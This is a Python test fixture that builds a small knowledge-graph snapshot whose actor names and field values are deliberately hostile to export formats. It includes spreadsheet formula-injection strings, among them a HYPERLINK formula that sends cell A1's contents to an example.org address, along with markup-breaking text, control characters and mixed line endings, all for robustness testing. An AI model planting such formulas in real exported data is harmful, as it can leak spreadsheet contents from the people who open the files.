"""A small territory whose names and texts are hard on file formats, written by hand."""

from __future__ import annotations

from datetime import date

from graph_builder.snapshot import Snapshot, in_memory
from graph_builder.tables import Filler, Tables
from ontology.model import Basis, Confidence
from tests.graph_builder.tiny import Info

FORMULA = '=HYPERLINK("https://example.org/?a="&A1,"click")'
MARKUP = "<b>Bricq & 'Fils'</b> ]]> \"SARL\""
LINES = "Ligne 1\r\nligne 2, avec; des | signes\rretour\nseul\ttab"
CONTROLS = "Avant\x01apr\x0bès"
SCRIPTS = "Ωμέγα 東京 مختبر 🚄 e\u0301"

NAMES = {
    "formula": FORMULA,
    "markup": MARKUP,
    "lines": LINES,
    "controls": CONTROLS,
    "scripts": SCRIPTS,
    "minus": "-1+1",
    "at": "@SUM(1)",
    "plus": "+33",
}
"""Actor -> its name."""


def hostile_tables(*, redistribution: dict[str, str] | None = None) -> Tables:
    """Eight actors, a project, a skill, a sector and a place; `redistribution` is what each source says, "facts" by default."""
    filler = Filler()
    for source in ("a", "b", "c"):
        record = filler.record(f"tiny/sources/{source}", locator="sources.csv:2", sources=[f"source:{source}"], retrieved=date(2026, 2, 3))
        filler.attribute(f"source:{source}", "type", "Source", record)
        filler.attribute(f"source:{source}", "title", f"Source, {source.upper()}", record)
        filler.attribute(f"source:{source}", "url", f"https://example.org/{source}?x=1&y=2", record)
        filler.attribute(f"source:{source}", "redistribution", (redistribution or {}).get(source, "facts"), record)
    rule = filler.record("tiny/inference/offer", sources=["source:inference-offer"])
    filler.attribute("source:inference-offer", "type", "Source", rule)
    words = filler.record("tiny/words")
    for entity, kind in (("skill:weld", "Skill"), ("sector:rail", "Sector"), ("kind:pme", "ActorKind")):
        filler.attribute(entity, "type", kind, words, confidence=Confidence.KNOWN)
        filler.attribute(entity, "label_fr", f'{kind} à l\'été; "x"', words, lang="fr")
        filler.attribute(entity, "label_en", f"{kind} in summer", words, lang="en")
    filler.attribute("kind:pme", "role", "company", words)
    place = filler.record("tiny/places/1", sources=["source:a"], published="2020")
    filler.attribute("place:90010", "type", "Place", place)
    filler.attribute("place:90010", "name", "Belfort", place)
    for number, (actor, name) in enumerate(NAMES.items()):
        record = filler.record(
            f"tiny/actors/{actor}, {number}", locator=f"actors.csv:{number}", sources=["source:b", "source:a"], published="2021-05"
        )
        filler.attribute(actor, "type", "Organization", record)
        filler.attribute(actor, "name", name, record)
        filler.attribute(actor, "kind", "kind:pme", record)
        filler.relation(actor, "locatedIn", "place:90010", record)
        if number:
            filler.attribute(actor, "lat", f"47.{number}", record)
            filler.attribute(actor, "lon", f"-6.{number}", record)
    _relations(filler)
    return filler.tables()


def _relations(filler: Filler) -> None:
    project = filler.record("tiny/projects/p", sources=["source:c"], published="2019~")
    filler.attribute("p", "type", "Project", project)
    filler.attribute("p", "name", "Projet = 1 ; a=b", project)
    filler.relation("formula", "participatesIn", "p", project, since="2019", until="2021", qualifiers={"role": "lead"})
    filler.relation("p", "about", "skill:weld", project)
    facts = filler.record("tiny/relations/1", sources=["source:b"])
    filler.relation("formula", "collaboratesWith", "markup", facts, since="2018", qualifiers={"role": "joint_lab", "word": 'a=b;c="d"\n'})
    filler.relation("formula", "collaboratesWith", "markup", filler.record("tiny/relations/2", sources=["source:c"]), since="2019~")
    filler.relation("lines", "memberOf", "at", facts, confidence=Confidence.UNCERTAIN)
    filler.relation("lines", "needsSkill", "skill:weld", facts, qualifiers={"need_type": "rd", "paraphrase_fr": LINES})
    filler.relation("scripts", "operatesInSector", "sector:rail", facts)
    guess = filler.record("tiny/offers/1", sources=["source:inference-offer"])
    filler.relation("scripts", "offersSkill", "skill:weld", guess, basis=Basis.INFERRED, confidence=Confidence.LIKELY)


def hostile(*, redistribution: dict[str, str] | None = None) -> Snapshot:
    """The same as a snapshot of one package."""
    return in_memory(hostile_tables(redistribution=redistribution), [Info()])
